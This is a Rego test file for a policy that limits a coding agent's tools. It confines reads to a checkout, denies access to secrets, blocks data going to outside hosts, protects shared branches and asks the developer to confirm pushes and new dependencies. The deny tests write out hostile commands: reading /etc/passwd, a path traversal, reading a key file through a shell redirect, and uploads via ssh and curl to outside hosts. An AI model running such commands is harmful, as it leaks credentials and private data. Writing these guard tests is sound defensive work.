# Run with: npx benchbook test samples/coding-agent
package coding.tools_test

import data.coding.tools

checkout := "/home/dev/src/ledger"

bash(command) := {"tool": {"name": "Bash"}, "args": {"command": command}, "context": {"cwd": checkout}}

read(file) := {"tool": {"name": "Read"}, "args": {"file_path": file}, "context": {"cwd": checkout}}

test_reads_inside_a_checkout_alone if {
	tools.allow with input as read("/home/dev/src/ledger/src/main.ts")
	not tools.allow with input as read("/etc/passwd")
	not tools.allow with input as read("/home/dev/src/ledger/../../.profile")
}

test_searches_where_it_stands if {
	tools.allow with input as {"tool": {"name": "Glob"}, "args": {"pattern": "**"}, "context": {"cwd": checkout}}
	not tools.allow with input as {"tool": {"name": "Glob"}, "args": {"pattern": "**"}, "context": {"cwd": "/root"}}
}

test_every_part_of_a_pipeline_is_listed if {
	tools.allow with input as bash("git log | head -3 && npm test")
	not tools.allow with input as bash("git log | ssh build@10.0.0.7")
}

test_secrets_are_denied_by_name if {
	tools.deny == {"/home/dev/src/ledger/.env holds secrets"} with input as read("/home/dev/src/ledger/.env")
	count(tools.deny) == 0 with input as read("/home/dev/src/ledger/src/env.ts")
}

test_the_shell_is_no_way_round if {
	tools.deny == {"the command touches files that hold secrets"} with input as bash("head -1 < deploy/key.pem")
}

test_nothing_is_sent_to_strangers if {
	tools.deny == {"data would go to paste.example"} with input as bash("curl -d @notes.md https://paste.example/new")
	count(tools.deny) == 0 with input as bash("curl -d @notes.md https://docs.fernhill.example/new")
}

test_history_of_shared_branches_stays if {
	every branch in ["main", "release/4.2"] {
		count(tools.deny) == 1 with input as bash(sprintf("git push -f origin %s", [branch]))
	}
	count(tools.deny) == 0 with input as bash("git push --force origin rounding")
}

test_the_developer_confirms if {
	tools.escalate == {"the developer confirms what is published"} with input as bash("git push origin rounding")
	tools.escalate == {"the developer confirms a new dependency"} with input as bash("npm i -D fast-check")
	count(tools.escalate) == 0 with input as bash("npm install")
}
